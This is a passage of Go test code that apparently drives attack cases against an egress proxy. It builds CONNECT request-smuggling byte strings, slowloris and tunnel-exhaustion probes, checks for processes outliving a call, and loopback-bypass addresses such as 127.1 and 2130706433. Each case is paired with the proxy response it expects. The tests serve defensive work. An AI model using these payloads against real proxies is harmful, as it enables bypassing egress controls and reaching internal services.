			return "CONNECT " + ok + " HTTP/1.1\r\nX: y\r\n CONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"space", "… in the target, behind a space", "HTTP400", func(ok, evil string) string {
			return "CONNECT " + ok + " CONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"old", "… without a version", "HTTP400", func(ok, evil string) string {
			return "CONNECT " + ok + "\r\n\r\nCONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"long", "… behind a head that is too long", "HTTP431", func(ok, evil string) string {
			return "CONNECT " + ok + " HTTP/1.1\r\nX: " + strings.Repeat("y", 8<<10) + "\r\nCONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"space-header", "… behind a header with a space in its name", "HTTP400", func(ok, evil string) string {
			return "CONNECT " + ok + " HTTP/1.1\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\nCONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
	} {
		t.add(v.how, v.attack, "", []string{v.says}, func(h *hosts) (scene, error) {
			return h.raw("connect", v.bytes(h.ok()+":13", h.evil+":13"), "allow="+h.suffix)
		})
	}
	for _, v := range []struct {
		how, attack string
		bytes       func(ok, evil string) string
	}{
		{"pipelined", "… right behind the first", func(ok, evil string) string {
			return "CONNECT " + ok + " HTTP/1.1\r\n\r\nCONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"header", "… in a header", func(ok, evil string) string {
			return "CONNECT " + ok + " HTTP/1.1\r\nX: CONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
	} {
		t.add(v.how, v.attack, "OPEN: all of it went to the host that is allowed", []string{"OPEN"}, func(h *hosts) (scene, error) {
			return h.raw("connect", v.bytes(h.ok()+":13", h.evil+":13"), "allow="+h.suffix)
		})
	}
	return t.out
}

// starveCases are 127: a call that takes what palyra-egress has, while another one works.
func starveCases() []attackCase {
	t := reachTable{number: 127, name: "egress-exhaustion"}
	for _, v := range []struct{ how, attack string }{
		{"slowloris", "leave no connection of the proxy to another call: heads that come byte by byte"},
		{"silent", "… connections that say nothing"}, {"tunnels", "… tunnels that stay open"}, {"dead", "… tunnels to a host that doesn't answer"},
	} {
		t.add(v.how, v.attack, "OPEN: the other call reached its host all the while", []string{"OPEN"}, func(h *hosts) (scene, error) {
			dead, theirs := "dead."+h.suffix, "their."+h.s.nonce+".other.example"
			h.w.Set(dead, world.Addrs(world.Dead))
			h.w.Set(theirs, world.Addrs(evil))
			works := []string{neighbour, "host=" + hexed(theirs), "port=" + hearPort}
			at := httpIn
			starved := func(o *outcome) (bool, string) {
				i := slices.IndexFunc(o.lines, func(r result) bool { return r.Case == neighbour && r.Outcome == "STARVED" })
				if i >= 0 {
					return true, "the other call starved: " + o.lines[i].Detail
				}
				return false, ""
			}
			if !h.s.inside {
				_, addr, err := h.s.handInWorld("naive", "deny=-", "room=64")
				if err != nil {
					return scene{}, err
				}
				at = addr
				other, _, err := h.s.handInWorld(works[0], append(works[1:], "proxy="+at)...)
				if err != nil {
					return scene{}, err
				}
				l := &listenerOf{s: h.s}
				go l.hear(other.rest())
				starved = l.heard("STARVED")
			}
			sc := scene{probe: "starve", args: []string{"how=" + v.how, "n=300", "proxy=" + at, "host=" + hexed(h.ok()), "dead=" + hexed(dead), "port=" + hearPort}, canary: starved}
			sc.opt = options{egress: h.rule(hearPort), others: []string{theirs + ":" + hearPort}, beside: works}
			return sc, nil
		})
		t.out[len(t.out)-1].alone = true
	}
	return t.out
}

// lateCases are 128: what is left of a call reaches its host when the call is over.
func lateCases() []attackCase {
	t := reachTable{number: 128, name: "after-the-end"}
	for _, v := range []struct{ how, attack string }{{"address", "reach a host by a process that outlives the call"}, {"connection", "… on a connection of the call's"}} {
		t.add(v.how, v.attack, "OPEN: the process was left, and ended with the call", []string{"OPEN"}, func(h *hosts) (scene, error) {
			sc := scene{probe: "late", args: []string{"how=" + v.how, "host=" + hexed(h.ok()), "port=" + hearPort, "token=" + h.token}, opt: options{egress: h.rule(hearPort)}}
			sc.canary = h.afterwards()
			return sc, nil
		})
	}
	return t.out
}

// serviceCases are 129: the host's own services, by the proxies.
func serviceCases() []attackCase {
	t := reachTable{number: 129, name: "host-services"}
	for _, v := range []struct{ how, host, connect string }{
		{"loopback", "127.0.0.1", "HTTP403"}, {"loopback-short", "127.1", "HTTP400"}, {"loopback-decimal", "2130706433", "HTTP400"},
		{"this-host", "0.0.0.0", "HTTP403"}, {"mapped", "[::ffff:127.0.0.1]", "HTTP400"}, {"other", "127.9.9.9", "HTTP403"},
	} {
		for _, via := range []string{"connect", "socks"} {
			says := v.connect
			if via == "socks" {
				says = "SOCKS2"
			}
			t.add(v.how+"-"+via, "reach by "+via+" a service on the host's loopback interface: "+v.host, "", []string{says}, func(h *hosts) (scene, error) {
				port, heard, err := h.service()
				if err != nil {
					return scene{}, err
				}
				sc, err := h.through(via, v.host, port, "deny=-")
				sc.opt.egress, sc.canary = h.rule(port), heard
				return sc, err
			})
		}
	}
	return t.out
}
